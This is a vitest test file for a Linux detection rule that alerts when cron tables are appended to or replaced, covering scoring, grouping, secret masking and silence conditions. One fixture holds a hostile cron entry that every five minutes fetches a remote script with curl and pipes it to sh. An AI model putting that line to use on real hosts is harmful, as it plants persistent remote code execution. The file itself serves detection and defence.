import { describe, expect, test } from 'vitest';
import { added, appendAlert, appended, scoresOf } from './cron-alerts.ts';
import { outcome } from './events.ts';
import { auditedFile, crontabLine, moved, started, sysmonFile } from './linux-events.ts';
import { lookAlikes, positives } from './rows/linux-append-cronjob-entry.ts';
import { eventsOf, runRows } from './rows/run-rows.ts';

const JOB = '/etc/cron.d/job';
const ROOT = '/var/spool/cron/crontabs/root';

const scores = (...args: Parameters<typeof appended>) => scoresOf(appended(...args));
const wrote = (more = {}) => auditedFile(JOB, { op: 'write', access: 'append', ...more });
const removed = (more = {}) => auditedFile(JOB, { op: 'delete', ...more });
const inShell = (script: string, more = {}) => started('/usr/bin/dash', `sh -c ${script}`, more);

describe('what fires', () => {
  runRows(appendAlert(), positives);
});

describe('what looks alike', () => {
  runRows(appendAlert(), lookAlikes);
});

describe('a change of a table is no creation', () => {
  test.each([...positives, ...lookAlikes])('$row: $what', ({ events }) => {
    expect(added(events())).toEqual([]);
  });
});

describe('what the alert says', () => {
  test('row 1: which table, how, by whom', () => {
    const [alert] = appended(eventsOf(positives, '1'));
    expect(alert).toMatchObject({
      name: 'SecOpsLinuxAppendCronjobEntry',
      tier: 'baseline',
      severity: 'medium',
      ruleIds: ['linux-append-cronjob-entry/b1'],
      summary: '/etc/crontab was appended to on web01 by root with /usr/bin/bash',
      details: {
        filePath: '/etc/crontab',
        fileOp: 'append',
        cronClass: 'systab',
        loginUser: 'ubuntu',
        session: '0x7',
      },
    });
  });

  test.each([
    ['1', 'append'],
    ['2', 'append'],
    ['3', 'overwrite'],
    ['4', 'inPlace'],
    ['5', 'replace'],
    ['6', 'replace'],
    ['7', 'append'],
    ['8', 'replace'],
    ['9', 'append'],
    ['10', 'replace'],
    ['11', 'inPlace'],
  ])('row %s is of kind %s', (row, kind) => {
    expect(appended(eventsOf(positives, row))[0]?.details['fileOp']).toBe(kind);
  });

  test('row 7: the job as one text, and why it scores 95', () => {
    const [alert] = appended(eventsOf(positives, '7'));
    expect(alert).toMatchObject({
      tier: 'extended',
      severity: 'critical',
      ruleIds: ['linux-append-cronjob-entry/x1'],
      details: { cronEntry: '*/5 * * * * root curl -s http://203.0.113.9/k.sh|sh' },
    });
    expect(alert?.reasons.map(({ points }) => points)).toEqual([35, 25, 15, 20]);
  });

  test('the table of a service account ranks higher', () => {
    expect(scores([wrote({ path: '/var/spool/cron/www-data' })])).toEqual([50]);
    expect(scores([wrote({ path: '/var/spool/cron/alice' })])).toEqual([40]);
  });

  test('crontab on the table of another account is 20 points, where names tell', () => {
    const temporary = '/var/spool/cron/crontabs/tmp.QvY3bN';
    const by = (user: string) => [
      moved('/var/spool/cron/crontabs/alice', temporary, {
        image: '/usr/bin/crontab',
        isReplacement: true,
        user,
      }),
    ];
    expect([by('root'), by('alice'), by('1000')].map((events) => scores(events))).toEqual([
      [60],
      [40],
      [40],
    ]);
    expect(scores([inShell('crontab -u alice /root/x')])).toEqual([55]);
    expect(scores([inShell('echo x >> /var/spool/cron/alice')])).toEqual([35]);
  });

  test('no secret of a command line', () => {
    const alerts = appended([inShell('echo "@daily root x --password S3cret-pw" >> /etc/crontab')]);
    expect(alerts[0]?.details['cronEntry']).toBe('@daily root x --password ***');
    expect(JSON.stringify(alerts)).not.toContain('S3cret-pw');
  });
});

describe('one table is one alert', () => {
  test('within ten seconds', () => {
    const evidence = (gapMs: number) =>
      appended([wrote(), wrote({ atMs: gapMs })]).map((alert) => alert.evidence.length);
    expect(evidence(10_000)).toEqual([2]);
    expect(evidence(10_001)).toEqual([1, 1]);
  });

  test('the command, the file and the line of crontab', () => {
    const temporary = '/var/spool/cron/crontabs/tmp.QvY3bN';
    const [alert, ...others] = appended([
      inShell('(crontab -l; echo "@daily x") | crontab -'),
      started('/usr/bin/crontab', 'crontab -', { atMs: 5, pid: 9 }),
      moved(ROOT, temporary, { image: '/usr/bin/crontab', isReplacement: true, atMs: 20 }),
      crontabLine('root', 'REPLACE', 'root', { atMs: 21 }),
    ]);
    expect(others).toEqual([]);
    expect(alert).toMatchObject({
      score: 50,
      tier: 'baseline',
      ruleIds: ['b2', 'b4', 'x1'].map((part) => `linux-append-cronjob-entry/${part}`),
      details: { filePath: ROOT, cronEntry: '@daily x' },
    });
    expect(alert?.evidence).toHaveLength(4);
  });

  test('a write that Sysmon cannot tell the kind of has the kind that the command says', () => {
    const rewritten = sysmonFile('/etc/crontab', '/usr/bin/dash', { ageMs: 86_400_000, atMs: 3 });
    expect(appended([rewritten])[0]?.details['fileOp']).toBe('write');
    const [alert] = appended([inShell('echo x >> /etc/crontab'), rewritten]);
    expect(alert).toMatchObject({ score: 50, details: { fileOp: 'append' } });
  });
});

describe('a table that its writer removes and creates is replaced', () => {
  const gap = (atMs: number, more = {}) => [removed(), auditedFile(JOB, { atMs, ...more })];

  test('within five seconds', () => {
    expect(appended(gap(5_000))[0]).toMatchObject({
      score: 40,
      ruleIds: ['linux-append-cronjob-entry/b3'],
      details: { fileOp: 'replace' },
    });
    expect(appended(gap(5_001))).toEqual([]);
  });

  test('by the same process', () => {
    expect(appended(gap(100, { pid: 9 }))).toEqual([]);
  });

  test('also where it keeps the old one under another name', () => {
    const events = [moved(`${JOB}~`, JOB, { pid: 7 }), auditedFile(JOB, { pid: 7, atMs: 10 })];
    expect(appended(events).map(({ details }) => details['fileOp'])).toEqual(['replace']);
  });

  test('and neither half alone is anything', () => {
    const rule = appendAlert();
    expect(outcome([rule], [removed()])).toEqual({ alerts: [], notes: [] });
    expect(outcome([rule], [auditedFile(JOB)])).toEqual({ alerts: [], notes: [] });
  });
});

describe('silence', () => {
  test('for an attempt that failed, a policy, and what cron does not read', () => {
    expect(appended([wrote({ isSuccess: false })])).toEqual([]);
    expect(appended([wrote({ path: '/etc/cron.allow' })])).toEqual([]);
    expect(appended([wrote({ path: '/etc/cron.d/.job.swp' })])).toEqual([]);
    expect(appended([wrote({ path: '/etc/cron.d/has.dot' })])).toHaveLength(1);
  });

  test('for the line of crontab where the file shows that the table is new', () => {
    const created = moved('/var/spool/cron/crontabs/alice', '/var/spool/cron/crontabs/tmp.QvY3bN');
    const line = crontabLine('alice', 'REPLACE', 'alice', { atMs: 30 });
    expect(appended([created, line])).toEqual([]);
    expect(appended([line])).toHaveLength(1);
  });

  test('for Sysmon 11 of a file that is ten seconds old at most', () => {
    const aged = (ageMs: number) => [sysmonFile(JOB, '/usr/bin/cp', { ageMs })];
    expect(scores(aged(10_000))).toEqual([]);
    expect(scores(aged(10_001))).toEqual([40]);
  });

  test('for a process of Windows that speaks of cron', () => {
    const telemetry = 'sysmon/1';
    expect(appended([inShell('echo x >> /etc/crontab', { telemetry })])).toEqual([]);
    expect(
      appended([inShell('echo x >> /etc/crontab', { telemetry: 'auditd/syscall' })]),
    ).toHaveLength(1);
  });
});
